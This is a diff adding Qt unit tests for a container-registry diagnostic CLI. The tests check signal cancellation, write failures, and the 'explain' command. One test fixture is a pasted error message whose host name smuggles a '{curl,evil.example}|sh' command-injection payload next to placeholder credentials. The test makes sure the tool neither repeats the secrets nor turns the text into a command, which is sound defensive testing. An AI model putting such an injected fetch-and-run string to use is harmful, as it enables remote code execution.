@@ -6,6 +6,9 @@
 #include <QProcess>
 #include <QRegularExpression>
 #include <QtTest>
+#include "standin_bin.h"
+#include <csignal>
+#include <sys/types.h>
 
 namespace {
 
@@ -61,6 +64,10 @@ private slots:
     void symptomsAndCauses_listEveryStableId();
     void explain_recognisesPastedMessage_andSuggestsTheCheck();
     void explain_emptyInput_isUsageError();
+    void explain_neverRepeatsCredentials_norBuildsACommandFromPastedText();
+    void stopSignal_cancelsTheCheck_noChildOutlivesIt_data();
+    void stopSignal_cancelsTheCheck_noChildOutlivesIt();
+    void reportCannotBeWritten_exitsNonZero();
     void practiceList_namesScenarios();
 };
 
@@ -235,6 +242,106 @@ void CliTest::explain_recognisesPastedMessage_andSuggestsTheCheck()
     const Run t = cli({QStringLiteral("explain")}, paste);
     QCOMPARE(t.exitCode, 1);
     QVERIFY(t.out.contains("registry-doctor-cli check myregistry.azurecr.io"));
+}
+
+void CliTest::explain_neverRepeatsCredentials_norBuildsACommandFromPastedText()
+{
+    // The first registry named is hostile text: it must not become part of the suggested command.
+    const QByteArray paste =
+        "Error response from daemon: Get \"https://host;{curl,evil.example}|sh;#.azurecr.io/v2/\": dial tcp: lookup host: no such host\n"
+        "Error response from daemon: Get \"https://alice:Hunter2-Paste@myregistry.azurecr.io/v2/?access_token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl\": "
+        "unauthorized: authentication required password=Pa55w0rd-Paste\n";
+    for (const QStringList &args : {QStringList{QStringLiteral("explain")}, QStringList{QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}}) {
+        const Run r = cli(args, paste);
+        QVERIFY(r.exitCode == 0 || r.exitCode == 1);
+        for (const char *secret : {"Hunter2-Paste", "Pa55w0rd-Paste", "c2lnbmF0dXJl", "eyJzdWIiOiJ4In0"})
+            QVERIFY2(!r.out.contains(secret) && !r.err.contains(secret), secret);
+        for (const QByteArray &line : r.out.split('\n'))
+            if (line.contains("registry-doctor-cli check"))
+                QVERIFY2(QRegularExpression(QStringLiteral("^\\s*registry-doctor-cli check (REGISTRY|[a-z0-9.:-]+)( --symptom [a-z-]+)*$"))
+                             .match(QString::fromUtf8(line)).hasMatch(), line.constData());
+    }
+}
+
+void CliTest::stopSignal_cancelsTheCheck_noChildOutlivesIt_data()
+{
+    QTest::addColumn<int>("sig");
+    QTest::newRow("SIGINT") << int(SIGINT);
+    QTest::newRow("SIGTERM") << int(SIGTERM);
+    QTest::newRow("SIGHUP") << int(SIGHUP);
+}
+
+void CliTest::stopSignal_cancelsTheCheck_noChildOutlivesIt()
+{
+    // A real child (the az stand-in, a shell) that starts a grandchild (sleep 300) and waits.
+    QFETCH(int, sig);
+    rd::test::StandinBin bin;
+    QVERIFY(bin.isValid() && bin.add(QStringLiteral("az")));
+    QTemporaryDir home;
+    QVERIFY(home.isValid());
+    QDir(home.path()).mkpath(QStringLiteral(".azure"));
+    QDir(home.path()).mkpath(QStringLiteral(".docker"));
+    const QString pidFile = home.filePath(QStringLiteral("az.pids"));
+    QProcess p;
+    p.setProgram(QStringLiteral(RD_CLI_PATH));
+    p.setArguments({QStringLiteral("check"), QStringLiteral("contoso.azurecr.io"), QStringLiteral("--sign-in"),
+                    QStringLiteral("azure-cli"), QStringLiteral("--timeout"), QStringLiteral("60"), QStringLiteral("--format"),
+                    QStringLiteral("json")});
+    QProcessEnvironment env;
+    env.insert(QStringLiteral("PATH"), bin.path());
+    env.insert(QStringLiteral("HOME"), home.path());
+    env.insert(QStringLiteral("DOCKER_CONFIG"), home.filePath(QStringLiteral(".docker")));
+    env.insert(QStringLiteral("AZURE_CONFIG_DIR"), home.filePath(QStringLiteral(".azure")));
+    env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
+    env.insert(QStringLiteral("RD_STANDIN_AZ_MODE"), QStringLiteral("hang-with-child"));
+    env.insert(QStringLiteral("RD_STANDIN_CHILD_PIDFILE"), pidFile);
+    p.setProcessEnvironment(env);
+    p.start();
+    QVERIFY(p.waitForStarted());
+    p.closeWriteChannel();
+    QList<qint64> pids;
+    QTRY_VERIFY_WITH_TIMEOUT(([&] {
+        QFile f(pidFile);
+        if (!f.open(QIODevice::ReadOnly))
+            return false;
+        pids.clear();
+        for (const QByteArray &w : f.readAll().simplified().split(' '))
+            if (w.toLongLong() > 0)
+                pids << w.toLongLong();
+        return pids.size() == 2;
+    }()), 20000);
+    auto alive = [](qint64 pid) {
+        QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
+        if (!stat.open(QIODevice::ReadOnly))
+            return false;
+        const QByteArray s = stat.readAll();
+        const qsizetype close = s.lastIndexOf(')');
+        return close > 0 && s.size() > close + 2 && s.at(close + 2) != 'Z';
+    };
+    QVERIFY(alive(pids.at(0)) && alive(pids.at(1)));
+    QCOMPARE(::kill(pid_t(p.processId()), sig), 0);
+    QVERIFY2(p.waitForFinished(10000), "the command line did not stop");
+    QCOMPARE(p.exitStatus(), QProcess::NormalExit);
+    QCOMPARE(p.exitCode(), 3);
+    QVERIFY(json(p.readAllStandardOutput()).value(QStringLiteral("cancelled")).toBool());
+    QTRY_VERIFY_WITH_TIMEOUT(!alive(pids.at(0)), 3000);
+    QTRY_VERIFY_WITH_TIMEOUT(!alive(pids.at(1)), 3000); // the grandchild too
+}
+
+void CliTest::reportCannotBeWritten_exitsNonZero()
+{
+    if (!QFile::exists(QStringLiteral("/dev/full")))
+        QSKIP("no /dev/full on this system");
+    QProcess p;
+    p.setProgram(QStringLiteral(RD_CLI_PATH));
+    p.setArguments({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("healthy"), QStringLiteral("--format"),
+                    QStringLiteral("json")});
+    p.setStandardOutputFile(QStringLiteral("/dev/full"));
+    p.start();
+    QVERIFY(p.waitForFinished(60000));
+    QCOMPARE(p.exitStatus(), QProcess::NormalExit);
+    QCOMPARE(p.exitCode(), 3);
+    QVERIFY(p.readAllStandardError().contains("could not be written"));
 }
 
 void CliTest::explain_emptyInput_isUsageError()
